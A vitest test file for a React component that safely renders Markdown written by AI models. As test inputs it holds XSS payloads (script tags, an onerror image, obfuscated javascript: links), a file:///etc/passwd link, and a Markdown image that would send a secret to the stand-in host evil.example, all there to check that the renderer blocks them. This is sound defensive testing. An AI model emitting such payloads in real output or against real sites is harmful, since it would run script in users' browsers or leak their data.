import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../src/islands/markdown/markdown.tsx';

const html = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }));

describe('Markdown of a model', () => {
  it('shows HTML as text, in blocks and inline', () => {
    for (const source of [
      '<script>alert(1)</script>',
      'a <img src=x onerror=alert(1)> b',
      '<iframe src="https://evil.example"></iframe>',
      '<a href="javascript:alert(1)">x</a>',
    ]) {
      expect(html(source)).not.toMatch(/<(script|img|iframe|a)\b/);
      expect(html(source)).toContain('&lt;');
    }
  });

  it('fetches nothing: an image is a link with its description', () => {
    const shown = html('![secret](https://evil.example/?q=KEY)');
    expect(shown).not.toMatch(/<img|src=|background/);
    expect(shown).toContain('Image, not loaded: secret');
  });

  it('links lead to http, https, mail or this site, and nowhere else', () => {
    const refused = [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert(1))',
      '[x](java&#115;cript:alert(1))',
      '[x](<java\tscript:alert(1)>)',
      '[x](data:text/html,hi)',
      '[x](vbscript:x)',
      '[x](blob:https://a/b)',
      '[x](file:///etc/passwd)',
      '<javascript:alert(1)>',
    ];
    for (const source of refused) expect(html(source)).not.toContain('href');
    expect(html('[x](/billing/#how)')).toContain('href="/billing/#how"');
    expect(html('[x](https://a.example/)')).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(html('[x](//evil.example/a)')).toContain('href="https://evil.example/a"');
  });

  it('drops controls that reorder what is read', () => {
    expect(html('pay \u202e001$\u202c now \u2066x\u2069')).toContain('pay 001$ now x');
  });

  it('renders what models write: lists, code, tables, emphasis, entities', () => {
    const shown = html(
      '# Title\n\n1. one\n2. **two** &amp; `a<b`\n\n```json\n{"a":1}\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n- [x] done',
    );
    for (const part of [
      '<ol start="1">',
      '<strong>two</strong> &amp; <code>a&lt;b</code>',
      '{&quot;a&quot;:1}',
      '<td style="text-align:start">1</td>',
      'type="checkbox"',
    ])
      expect(shown).toContain(part);
    expect(shown).not.toMatch(/<h[1-6]/);
  });

  it('takes any half of an answer, as it streams in', () => {
    const whole =
      '**bold [link](https://a.example) `code`**\n\n```ts\nconst a = 1;\n```\n\n| a |\n| - |\n';
    for (let length = 0; length <= whole.length; length++)
      expect(() => html(whole.slice(0, length))).not.toThrow();
  });
});
